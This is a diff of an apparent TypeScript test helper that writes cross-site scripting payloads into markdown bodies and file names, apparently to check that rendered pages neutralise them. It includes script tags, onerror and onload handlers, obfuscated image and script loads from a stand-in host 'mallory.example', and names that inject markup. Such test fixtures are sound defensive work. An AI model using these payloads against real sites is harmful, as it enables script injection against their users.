@@ -25,7 +25,7 @@ export const payloads: readonly string[] = [
 ];
 
 /** Markdown that tries the same, and to load from elsewhere. */
-export const body = `
+const body = `
 <script>${mark}()</script><SCRIPT SRC=https://mallory.example/${mark}.js></SCRIPT>
 <img src=x onerror=${mark}()> <img src="https://mallory.example/${mark}.png"> <img src="//mallory.example/${mark}">
 <img src="/\\mallory.example/${mark}"> <img src="\\\\mallory.example\\${mark}"> <img src="/&#9;/mallory.example/${mark}">
@@ -98,7 +98,12 @@ export async function writeHostileContent(from: string, to: string): Promise<num
 }
 
 /** Names of files that attack the pages and links that are made of them. */
-const namesLeft = [`"><img src=x onerror=${mark}()>`, `' onclick='${mark}()`, `<svg onload=${mark}()>`, `{{${mark}()}}`];
+const namesLeft = [
+  `"><img src=x onerror=${mark}()>`,
+  `' onclick='${mark}()`,
+  `<svg onload=${mark}()>`,
+  `{{${mark}()}}`,
+];
 
 async function write(path: string, text: string): Promise<void> {
   await mkdir(dirname(path), { recursive: true });
